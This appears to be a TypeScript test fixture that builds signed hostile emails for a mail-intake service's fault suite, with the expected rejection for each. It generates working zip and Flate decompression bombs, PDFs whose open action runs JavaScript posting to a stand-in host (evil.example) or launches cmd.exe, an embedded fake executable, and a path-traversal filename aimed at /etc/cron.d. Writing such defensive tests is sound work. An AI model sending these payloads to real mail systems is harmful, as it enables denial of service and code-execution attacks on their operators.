// Hostile and malformed messages for the fault suite, generated in code (nothing committed).
// Each one is DKIM-signed by acme.example *after* it is built, so it gets past authentication
// and reaches the parser and the worker's decisions; each case says what it exercises and what
// the intake policy (docs/design.md §2) makes of it. Bodies carry BODY_MARKER so the secrets test can
// prove no message body reaches a log line.
import { randomBytes, randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32, createDeflate, createDeflateRaw } from 'node:zlib';
import { dkimSign } from 'mailauth/lib/dkim/sign.js';
import { loadKeys, SIGNERS, type Signer } from '../../fixtures/keys.js';
import { type Attachment, attachmentPart, message, multipartBody, type Part, textPart } from '../../fixtures/mime.js';
import { buildPdf, buildZip } from '../../fixtures/pdf.js';
import type { RejectionReason } from '../../src/errors.js';
import { FIXTURE_DIR } from './gateway.js';
import { deepNesting, manyObjects, metadataBomb, objectStreamBomb } from './pdf-bombs.js';
import { letterDoc, save } from './pdf-samples.js';

const KEYS = loadKeys(join(FIXTURE_DIR, 'keys'));
const MiB = 1024 * 1024;

export const ACME_FROM = 'Acme Utilities <letters@acme.example>';
/** Every generated body contains this, followed by a random token. */
export const BODY_MARKER = 'hostile-body-';

export function bodyText(): string {
  return `Dear customer,\n${BODY_MARKER}${randomBytes(8).toString('hex')}\nKind regards,\nAcme Utilities\n`;
}

export interface SignOptions {
  readonly canonicalization?: string;
  /** The l= tag: body bytes covered, after canonicalization. */
  readonly maxBodyLength?: number;
}

/** The message with a DKIM-Signature of `signer` prepended (default acme.example, rsa2048). */
export async function signAs(raw: string | Buffer, signer: Signer = SIGNERS.acmeRsa, options: SignOptions = {}): Promise<Buffer> {
  const bytes = typeof raw === 'string' ? Buffer.from(raw, 'utf8') : raw;
  const { signatures, errors } = await dkimSign(bytes, {
    canonicalization: options.canonicalization ?? 'relaxed/relaxed',
    signTime: new Date(),
    signatureData: [
      {
        signingDomain: signer.domain,
        selector: signer.selector,
        privateKey: KEYS[signer.key].privatePem,
        ...(options.maxBodyLength === undefined ? {} : { maxBodyLength: options.maxBodyLength }),
      },
    ],
  });
  if (errors.length > 0 || signatures === '') throw new Error(`signing failed: ${JSON.stringify(errors)}`);
  return Buffer.concat([Buffer.from(signatures, 'latin1'), bytes]);
}

export interface LetterShape {
  /** From header fields, each the whole value. Default: one, Acme Utilities. */
  readonly from?: readonly string[];
  /** null: no Subject header. */
  readonly subject?: string | null;
  readonly text?: string;
  /** Default: one small PDF. */
  readonly attachments?: readonly Attachment[];
  /** More header fields, after the usual ones. */
  readonly headers?: readonly string[];
}

export function headerFields(shape: Pick<LetterShape, 'from' | 'subject'> = {}): string[] {
  const subject = shape.subject === undefined ? `Hostile input ${randomUUID().slice(0, 8)}` : shape.subject;
  return [
    ...(shape.from ?? [ACME_FROM]).map((f) => `From: ${f}`),
    'To: letters@intake.example',
    ...(subject === null ? [] : [`Subject: ${subject}`]),
    `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`,
    `Message-ID: <${randomUUID()}@acme.example>`,
    'MIME-Version: 1.0',
  ];
}

/** A letter-shaped multipart/mixed message (not signed). */
export function letter(shape: LetterShape = {}): string {
  const boundary = `b-${randomUUID()}`;
  const attachments = shape.attachments ?? [pdf('letter.pdf')];
  return message(
    [...headerFields(shape), ...(shape.headers ?? []), `Content-Type: multipart/mixed; boundary="${boundary}"`],
    multipartBody(boundary, [textPart(shape.text ?? bodyText()), ...attachments.map(attachmentPart)]),
  );
}

export function pdf(fileName: string, data: Buffer = buildPdf(`hostile ${fileName}`), contentType = 'application/pdf'): Attachment {
  return { contentType, fileName, data };
}

// ---- PDFs and archives that are hostile on the inside ----

/** A PDF with the given objects (object 1 is the catalog) and a correct cross-reference table. */
export function pdfOf(objects: readonly string[], trailerExtra = ''): Buffer {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(out.length);
    out += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xrefAt = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  out += offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R${trailerExtra} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

const PAGES = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>'];

/** Standard security handler (PDF 32000-1 §7.6.3), content stream as opaque ciphertext. */
export function encryptedPdf(): Buffer {
  const cipher = randomBytes(64).toString('latin1');
  const hex = (n: number) => randomBytes(n).toString('hex');
  return pdfOf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      ...PAGES,
      `<< /Length ${cipher.length} >>\nstream\n${cipher}\nendstream`,
      `<< /Filter /Standard /V 2 /R 3 /Length 128 /O <${hex(32)}> /U <${hex(32)}> /P -3904 >>`,
    ],
    ` /Encrypt 5 0 R /ID [<${hex(16)}> <${hex(16)}>]`,
  );
}

/** A PDF that runs JavaScript when opened (/OpenAction and the document-level JavaScript name tree). */
export function javascriptPdf(): Buffer {
  const js = "app.alert('hostile'); this.submitForm('http://evil.example/');".replace(/[()\\]/g, (c) => `\\${c}`);
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(init) 5 0 R] >> >> >>',
    ...PAGES,
    '<< /Length 0 >>\nstream\n\nendstream',
    `<< /S /JavaScript /JS (${js}) >>`,
  ]);
}

/** A letter carrying an executable as an embedded file (pdf-lib's attach). */
async function embeddedExePdf(): Promise<Buffer> {
  const doc = await letterDoc();
  await doc.attach(Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), randomBytes(256)]), 'setup.exe', {
    mimeType: 'application/x-msdownload',
  });
  return save(doc);
}

async function deflated(totalBytes: number, raw: boolean): Promise<{ data: Buffer; crc: number }> {
  const zero = Buffer.alloc(MiB);
  const stream = raw ? createDeflateRaw({ level: 9 }) : createDeflate({ level: 9 });
  const chunks: Buffer[] = [];
  stream.on('data', (c: Buffer) => chunks.push(c));
  const ended = new Promise((ok) => stream.on('end', ok));
  let crc = 0;
  for (let done = 0; done < totalBytes; done += MiB) {
    if (!stream.write(zero)) await new Promise((ok) => stream.once('drain', ok));
    crc = crc32(zero, crc);
  }
  stream.end();
  await ended;
  return { data: Buffer.concat(chunks), crc };
}

/** A PDF whose page content is a FlateDecode stream inflating to `inflatedBytes` of zeros. */
export async function flateBombPdf(inflatedBytes: number): Promise<Buffer> {
  const { data } = await deflated(inflatedBytes, false);
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    ...PAGES,
    `<< /Length ${data.length} /Filter /FlateDecode >>\nstream\n${data.toString('latin1')}\nendstream`,
  ]);
}

let zipBombCache: Promise<Buffer> | undefined;
/** A ZIP holding one deflated file of 1 GiB of zeros (APPNOTE §4.3): about 1 MB on the wire. */
export function zipBomb(): Promise<Buffer> {
  zipBombCache ??= (async () => {
    const size = 1024 * MiB;
    const { data, crc } = await deflated(size, true);
    const name = Buffer.from('zeros.bin');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8); // deflate
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    const end = Buffer.alloc(22);
    end.writeUInt32LE(0x06054b50, 0);
    end.writeUInt16LE(1, 8);
    end.writeUInt16LE(1, 10);
    end.writeUInt32LE(central.length + name.length, 12);
    end.writeUInt32LE(local.length + name.length + data.length, 16);
    return Buffer.concat([local, name, data, central, name, end]);
  })();
  return zipBombCache;
}

// ---- the malformed set ----

export type Expectation =
  /** 250 at SMTP, then the worker ends the intake this way. */
  | { readonly smtp: 'accepted'; readonly worker: 'submitted' | RejectionReason }
  /** Refused at end of DATA with this reply. */
  | { readonly smtp: 'refused'; readonly reply: RegExp };

export interface HostileCase {
  readonly name: string;
  readonly exercises: string;
  readonly expected: Expectation;
  build(): Promise<Buffer>;
}

const accepted = (worker: 'submitted' | RejectionReason): Expectation => ({ smtp: 'accepted', worker });
const lineTooLong: Expectation = { smtp: 'refused', reply: /^554 5\.6\.0 message has a line longer than/ };
/** Refused at end of DATA by one of the message's own rules, named at the start of the reply. */
const inSession = (rule: 'NotAPdf' | 'NoPdfAttachment' | 'UnparseableMessage'): Expectation => ({
  smtp: 'refused',
  reply: new RegExp(`^550 5\\.6\\.0 ${rule}: `),
});
const signed = (raw: () => string | Buffer | Promise<string | Buffer>) => async () => signAs(await raw());

function nestedMultipart(depth: number): string {
  let contentType = `multipart/mixed; boundary="nest-${depth}"`;
  let body = multipartBody(`nest-${depth}`, [textPart(bodyText()), attachmentPart(pdf('deep.pdf'))]);
  for (let level = depth - 1; level >= 0; level -= 1) {
    body = multipartBody(`nest-${level}`, [{ headers: [`Content-Type: ${contentType}`], body }]);
    contentType = `multipart/mixed; boundary="nest-${level}"`;
  }
  return message([...headerFields(), `Content-Type: ${contentType}`], body);
}

function withParts(parts: readonly Part[], headers: readonly string[] = headerFields()): string {
  const boundary = `b-${randomUUID()}`;
  return message([...headers, `Content-Type: multipart/mixed; boundary="${boundary}"`], multipartBody(boundary, parts));
}

function fakePdfPart(body: string): Part {
  return {
    headers: [
      'Content-Type: application/pdf; name="statement.pdf"',
      'Content-Transfer-Encoding: base64',
      'Content-Disposition: attachment; filename="statement.pdf"',
    ],
    body,
  };
}

export function malformedCases(maxMessageBytes: number): readonly HostileCase[] {
  const filler = (count: number, width: number) => Array.from({ length: count }, (_, i) => `X-Filler-${i}: ${'f'.repeat(width)}`);
  const folded = Array.from({ length: 1100 }, (_, i) => `X-Folded-${i}: ${Array.from({ length: 10 }, () => 'v'.repeat(96)).join('\r\n ')}`);
  return [
    // mailparser's splitter stops at 1 MiB of header per MIME node and 1,000 child nodes: the
    // listener's walk (the same splitter) refuses these as UnparseableMessage, never a crash.
    {
      name: 'header-block-1.1MB-folded',
      exercises: '1,100 folded header fields, 1.1 MB of header block',
      expected: inSession('UnparseableMessage'),
      build: signed(() => letter({ headers: folded })),
    },
    {
      name: 'header-line-1.2MB',
      exercises: 'one unfolded header line of 1.2 MB',
      expected: lineTooLong,
      build: signed(() => letter({ headers: filler(1, 1_200_000) })),
    },
    {
      name: 'ten-thousand-headers',
      exercises: '10,000 header fields',
      expected: accepted('submitted'),
      build: signed(() => letter({ headers: filler(10_000, 20) })),
    },
    {
      name: 'mime-nesting-200',
      exercises: 'multipart nested 200 deep, the PDF at the bottom',
      expected: accepted('submitted'),
      build: signed(() => nestedMultipart(200)),
    },
    {
      name: 'five-thousand-parts',
      exercises: '5,000 attachments (4,999 octet-stream + 1 PDF)',
      expected: inSession('UnparseableMessage'),
      build: signed(() =>
        withParts([
          textPart(bodyText()),
          ...Array.from({ length: 4999 }, (_, i) =>
            attachmentPart({ contentType: 'application/octet-stream', fileName: `part-${i}.bin`, data: Buffer.from(`p${i}`) }),
          ),
          attachmentPart(pdf('letter.pdf')),
        ]),
      ),
    },
    {
      name: 'boundary-never-closed',
      exercises: 'the closing --boundary-- never comes',
      expected: accepted('submitted'),
      build: signed(() => letter().replace(/--b-[0-9a-f-]+--\r\n$/, '')),
    },
    {
      name: 'invalid-base64',
      exercises: 'a PDF part whose base64 is not base64',
      expected: inSession('NotAPdf'),
      build: signed(() => withParts([textPart(bodyText()), fakePdfPart('!!!! this is *not* base64 at all ####\r\n@@@@ %%%% ^^^^')])),
    },
    {
      name: 'truncated-base64-pdf',
      exercises: 'a PDF cut mid-quantum: starts with %PDF-, parses as nothing',
      expected: accepted('PdfDamaged'),
      build: signed(() => withParts([textPart(bodyText()), fakePdfPart(buildPdf('cut').toString('base64').slice(0, 201))])),
    },
    {
      name: 'nul-bytes',
      exercises: 'NUL in Subject, body text and PDF file name',
      expected: accepted('submitted'),
      build: signed(() =>
        letter({ subject: 'Invoice\u0000 with NUL', text: `${bodyText()}nul\u0000here\n`, attachments: [pdf('in\u0000voice.pdf')] }),
      ),
    },
    {
      name: 'traversal-control-filename',
      exercises: 'attachment named ../../etc/cron.d/x with control characters',
      expected: accepted('submitted'),
      build: signed(() => letter({ attachments: [pdf('../../etc/cron.d/\u0007evil\u001b[2J\r\n.pdf')] })),
    },
    {
      name: 'html-named-pdf',
      exercises: 'application/pdf named .pdf, content is HTML',
      expected: inSession('NotAPdf'),
      build: signed(() => letter({ attachments: [pdf('statement.pdf', Buffer.from('<html><script>alert(1)</script></html>'))] })),
    },
    {
      name: 'exe-as-octet-stream-pdf',
      exercises: 'octet-stream named .pdf, content is an MZ executable',
      expected: inSession('NotAPdf'),
      build: signed(() =>
        letter({
          attachments: [
            pdf('invoice.pdf', Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), randomBytes(512)]), 'application/octet-stream'),
          ],
        }),
      ),
    },
    // The deep PDF checks (src/pdf) open every PDF in a checker thread bounded in time and memory:
    // a password, damage or active content rejects the intake; a bomb ends as PdfDamaged (too
    // complex). Page content is never decoded (nothing is rendered), so a Flate bomb there is a
    // valid PDF and is submitted; archives are ignored attachments, never unpacked.
    {
      name: 'encrypted-pdf',
      exercises: '%PDF- with a standard-security /Encrypt dictionary (a user password)',
      expected: accepted('PdfPasswordProtected'),
      build: signed(() => letter({ attachments: [pdf('encrypted.pdf', encryptedPdf())] })),
    },
    {
      name: 'javascript-pdf',
      exercises: '%PDF- with /OpenAction JavaScript',
      expected: accepted('PdfActiveContent'),
      build: signed(() => letter({ attachments: [pdf('script.pdf', javascriptPdf())] })),
    },
    {
      name: 'launch-pdf',
      exercises: '%PDF- whose open action launches cmd.exe',
      expected: accepted('PdfActiveContent'),
      build: signed(() =>
        letter({
          attachments: [
            pdf(
              'launch.pdf',
              pdfOf([
                '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>',
                ...PAGES,
                '<< /Length 0 >>\nstream\n\nendstream',
              ]),
            ),
          ],
        }),
      ),
    },
    {
      name: 'embedded-exe-pdf',
      exercises: '%PDF- carrying setup.exe as an embedded file',
      expected: accepted('PdfActiveContent'),
      build: signed(async () => letter({ attachments: [pdf('invoice.pdf', await embeddedExePdf())] })),
    },
    {
      name: 'flate-bomb-pdf',
      exercises: '%PDF- whose content stream inflates to 256 MiB',
      expected: accepted('submitted'),
      build: signed(async () => letter({ attachments: [pdf('bomb.pdf', await flateBombPdf(256 * MiB))] })),
    },
    {
      name: 'object-stream-bomb-pdf',
      exercises: '%PDF- with an object stream inflating to 1 GiB',
      expected: accepted('PdfDamaged'),
      build: signed(async () => letter({ attachments: [pdf('objects.pdf', await objectStreamBomb(1024 * MiB))] })),
    },
    {
      name: 'metadata-bomb-pdf',
      exercises: '%PDF- whose XMP metadata inflates to 1 GiB',
      expected: accepted('PdfDamaged'),
      build: signed(async () => letter({ attachments: [pdf('metadata.pdf', await metadataBomb(1024 * MiB))] })),
    },
    {
      name: 'deep-nesting-pdf',
      exercises: '%PDF- with arrays nested 100,000 deep',
      expected: accepted('PdfDamaged'),
      build: signed(() => letter({ attachments: [pdf('deep.pdf', deepNesting(100_000))] })),
    },
    {
      name: 'many-objects-pdf',
      exercises: '%PDF- with 50,000 objects (3 MB): valid, read within the limits',
      expected: accepted('submitted'),
      build: signed(() => letter({ attachments: [pdf('many.pdf', manyObjects(50_000))] })),
    },
    {
      name: 'zip-bomb-beside-pdf',
      exercises: 'application/zip inflating to 1 GiB, next to a real PDF',
      expected: accepted('submitted'),
      build: signed(async () =>
        letter({ attachments: [pdf('letter.pdf'), { contentType: 'application/zip', fileName: 'bomb.zip', data: await zipBomb() }] }),
      ),
    },
    {
      name: 'zip-bomb-named-pdf',
      exercises: 'the 1 GiB zip bomb typed application/pdf',
      expected: inSession('NotAPdf'),
      build: signed(async () => letter({ attachments: [pdf('bomb.pdf', await zipBomb())] })),
    },
    {
      name: 'zip-named-pdf',
      exercises: 'a small ZIP typed application/pdf',
      expected: inSession('NotAPdf'),
      build: signed(() => letter({ attachments: [pdf('contract.pdf', buildZip('contract.txt', 'not a pdf'))] })),
    },
    {
      name: 'pdf-inside-message-rfc822',
      exercises: 'the only PDF sits in a forwarded message/rfc822',
      expected: inSession('NoPdfAttachment'),
      build: signed(() => withParts([textPart(bodyText()), { headers: ['Content-Type: message/rfc822'], body: letter() }])),
    },
    {
      name: 'multipart-without-boundary',
      exercises: 'multipart/mixed with no boundary parameter',
      expected: inSession('NoPdfAttachment'),
      build: signed(() =>
        message([...headerFields(), 'Content-Type: multipart/mixed'], letter().split('\r\n\r\n').slice(1).join('\r\n\r\n')),
      ),
    },
    {
      name: 'headers-only',
      exercises: 'no empty line, no body',
      expected: inSession('NoPdfAttachment'),
      build: signed(() => `${headerFields().join('\r\n')}\r\n`),
    },
    {
      name: 'raw-8bit-garbage-headers',
      exercises: 'invalid UTF-8 and latin1 bytes in Subject and a custom field',
      expected: accepted('submitted'),
      build: signed(() =>
        Buffer.from(letter({ subject: 'Rechnung \xff\xfe\xc3\x28 M\xe4rz', headers: ['X-Junk: \x80\x81\x82\xc0\xaf'] }), 'latin1'),
      ),
    },
    {
      name: 'twenty-one-pdfs',
      exercises: '21 PDFs: one more than the API takes per letter',
      expected: accepted('ApiRejected'),
      build: signed(() => letter({ attachments: Array.from({ length: 21 }, (_, i) => pdf(`page-${i}.pdf`)) })),
    },
    {
      name: 'one-megabyte-body-line',
      exercises: 'a text line of 1,000,000 bytes: under the line cap, over the API description cap',
      expected: accepted('ApiRejected'),
      build: signed(() => letter({ text: `${bodyText()}${'x'.repeat(1_000_000)}\n` })),
    },
    {
      name: 'two-megabyte-body-line',
      exercises: 'a text line of 2 MB: over the 1 MiB line cap',
      expected: lineTooLong,
      build: signed(() => letter({ text: `${bodyText()}${'x'.repeat(2_000_000)}\n` })),
    },
    {
      name: 'subject-600-chars',
      exercises: 'a subject longer than the API title cap (500)',
      expected: accepted('ApiRejected'),
      build: signed(() => letter({ subject: 'S'.repeat(600) })),
    },
    {
      name: 'empty-message',
      exercises: 'DATA with no bytes at all (unsignable)',
      expected: { smtp: 'refused', reply: /^550 5\.7\.1 .*From/ },
      build: async () => Buffer.alloc(0),
    },
    {
      name: 'over-max-message-bytes',
      exercises: 'one byte over MAX_MESSAGE_BYTES',
      expected: { smtp: 'refused', reply: /^552 5\.3\.4 / },
      build: signed(() => {
        const base = letter();
        const lines = `${'y'.repeat(76)}\r\n`.repeat(Math.ceil((maxMessageBytes - base.length + 1) / 78));
        return base.replace('Dear customer,', `Dear customer,\r\n${lines}`);
      }),
    },
  ];
}

// ---- the peer MIME corpus ----

export interface PeerMessage {
  readonly name: string;
  readonly raw: Buffer;
}

/** The messages `files` (paths under `dir`, the peer corpus's mime/ folder), in that order. */
export function peerMessages(dir: string, files: readonly string[]): PeerMessage[] {
  return files.map((name) => ({ name, raw: readFileSync(join(dir, name)) }));
}

/**
 * The peer message as letters@acme.example would send it: CRLF line ends (what SMTP carries),
 * a leading mbox "From " line dropped (RFC 4155 framing, not part of the message), every From
 * and Message-ID field replaced by ours, then signed by acme.example. The rest is untouched.
 */
export async function resignAsAcme(raw: Buffer, label: string): Promise<Buffer> {
  const text = raw
    .toString('latin1')
    .replace(/\r?\n/g, '\r\n')
    .replace(/^From [^\r\n]*\r\n/, '');
  const split = text.indexOf('\r\n\r\n');
  const head = split === -1 ? text : text.slice(0, split + 2);
  const rest = split === -1 ? '' : text.slice(split + 2);
  const fields: string[] = [];
  for (const line of head.split('\r\n')) {
    if (line === '') continue;
    if (/^[ \t]/.test(line) && fields.length > 0) fields[fields.length - 1] += `\r\n${line}`;
    else fields.push(line);
  }
  const kept = fields.filter((f) => !/^(from|message-id)[ \t]*:/i.test(f));
  const own = [`From: Peer Corpus <letters@acme.example>`, `Message-ID: <peer-${label}@acme.example>`];
  const rebuilt = `${[...own, ...kept].join('\r\n')}\r\n${rest === '' ? '\r\n' : rest}`;
  return signAs(Buffer.from(rebuilt, 'latin1'));
}
